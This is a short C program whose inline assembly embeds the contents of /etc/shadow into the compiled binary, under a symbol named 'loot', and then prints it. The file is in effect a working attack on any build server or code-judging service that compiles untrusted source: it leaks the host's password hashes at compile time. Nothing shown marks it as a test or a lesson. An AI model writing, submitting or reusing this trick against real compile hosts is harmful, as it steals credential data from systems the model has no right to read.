/* Has a copy of a file in it, and prints that. */
#include <stdio.h>

__asm__(".section .rodata\n.globl loot\nloot: .incbin \"/etc/shadow\"\n.byte 0\n.text\n");

extern const char loot[];

int main(void)
{
	puts(loot);
	return 0;
}
